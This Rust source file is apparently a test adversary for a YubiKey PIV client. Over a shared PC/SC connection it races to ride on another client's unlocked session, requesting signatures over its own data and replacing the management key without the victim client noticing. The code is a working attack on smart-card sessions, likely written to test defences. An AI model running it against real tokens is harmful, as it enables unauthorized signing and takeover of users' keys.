//! Another program at a YubiKey, of any user, which knows no PIN and no key.
//!
//! `cling` and `dip` wait at the device for the moment in which the PIN or the management key has
//! opened it. They ask for a signature over a text of their own, put a management key of their own
//! in, and write a line for each try. `alone` and `transaction` keep the device to themselves.
//! `select` selects another application, once. Each ends with its input.
//!
//! It is a process with one connection, because libpcsclite can crash a program that uses several
//! at a time (docs/decisions.md, "One thread at a time speaks to the smart card service").

use std::error::Error;
use std::io::{self, Write as _};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use pcsc::{Card, Context, Disposition, Protocols, Scope, ShareMode};

/// Header and template of GENERAL AUTHENTICATE with the P-256 key in slot 9c (NIST SP 800-73-4
/// part 2, section 3.2.4); 32 bytes follow, which are no digest that anybody has read.
const SIGN: [u8; 11] = [
    0x00, 0x87, 0x11, 0x9c, 0x26, 0x7c, 0x24, 0x82, 0x00, 0x81, 0x20,
];

/// SET MANAGEMENT KEY with AES-192 (Yubico, "PIV extensions"); 24 bytes follow.
const SET_MANAGEMENT_KEY: [u8; 8] = [0x00, 0xff, 0xff, 0xff, 0x1b, 0x0a, 0x9b, 0x18];

/// SELECT of the management application.
const OTHER_APPLICATION: &[u8] = &[
    0x00, 0xa4, 0x04, 0x00, 0x08, 0xa0, 0x00, 0x00, 0x05, 0x27, 0x47, 0x11, 0x17,
];

fn main() -> Result<(), Box<dyn Error>> {
    match std::env::args().nth(1).as_deref() {
        Some("cling") => attack(false)?,
        Some("dip") => attack(true)?,
        Some("alone") => {
            let _card = connect(ShareMode::Exclusive)?;
            say("held")?;
            wait_for_the_end_of_input();
        }
        Some("transaction") => {
            let mut card = connect(ShareMode::Shared)?;
            let transaction = card.transaction()?;
            say("held")?;
            wait_for_the_end_of_input();
            transaction
                .end(Disposition::LeaveCard)
                .map_err(|(_, error)| error)?;
        }
        Some("select") => {
            let selected = connect(ShareMode::Shared).and_then(|card| {
                let mut room = [0; pcsc::MAX_BUFFER_SIZE];
                card.transmit(OTHER_APPLICATION, &mut room).map(drop)
            });
            say(&format!("{selected:?}"))?;
        }
        other => return Err(format!("what to do? {other:?}").into()),
    }
    Ok(())
}

/// Connects to the device in the first reader.
fn connect(share: ShareMode) -> Result<Card, pcsc::Error> {
    let context = Context::establish(Scope::User)?;
    let readers = context.list_readers_owned()?;
    let reader = readers.first().ok_or(pcsc::Error::NoReadersAvailable)?;
    context.connect(reader, share, Protocols::T1)
}

/// Attacks until the end of input; `dipping` connects again after two tries.
fn attack(dipping: bool) -> io::Result<()> {
    let ended = Arc::<AtomicBool>::default();
    thread::spawn({
        let ended = Arc::clone(&ended);
        move || {
            wait_for_the_end_of_input();
            ended.store(true, Ordering::SeqCst);
        }
    });
    while !ended.load(Ordering::SeqCst) {
        match connect(ShareMode::Shared) {
            Ok(card) => steal(card, dipping, &ended)?,
            Err(pcsc::Error::SharingViolation) => say("refused")?,
            Err(_) => {}
        }
        thread::sleep(Duration::from_millis(1));
    }
    Ok(())
}

fn steal(mut card: Card, dipping: bool, ended: &AtomicBool) -> io::Result<()> {
    let commands = [
        ([&SIGN[..], &[0xaa; 32]].concat(), "signature"),
        (
            [&SET_MANAGEMENT_KEY[..], &[0xaa; 24]].concat(),
            "management key",
        ),
    ];
    let mut room = [0; pcsc::MAX_BUFFER_SIZE];
    for (n, (command, won)) in commands.iter().cycle().enumerate() {
        if ended.load(Ordering::SeqCst) {
            break;
        }
        match card.transmit(command, &mut room) {
            Ok(answer) => {
                say("tried")?;
                if answer.ends_with(&[0x90, 0x00]) {
                    say(won)?;
                }
            }
            // Another client's transaction: try again, as soon as it is over.
            Err(pcsc::Error::SharingViolation) => {}
            Err(pcsc::Error::ResetCard) => {
                let noted =
                    card.reconnect(ShareMode::Shared, Protocols::T1, Disposition::LeaveCard);
                if noted.is_err() {
                    return Ok(());
                }
            }
            Err(_) => return Ok(()),
        }
        if dipping && n % 2 == 1 {
            break;
        }
        thread::sleep(Duration::from_micros(500));
    }
    // The selected application and a verified PIN stay as they are: the client must not notice.
    let _ = card.disconnect(Disposition::LeaveCard);
    Ok(())
}

fn say(what: &str) -> io::Result<()> {
    writeln!(io::stdout(), "{what}")
}

fn wait_for_the_end_of_input() {
    // An error ends it, too.
    let _ = io::copy(&mut io::stdin(), &mut io::sink());
}
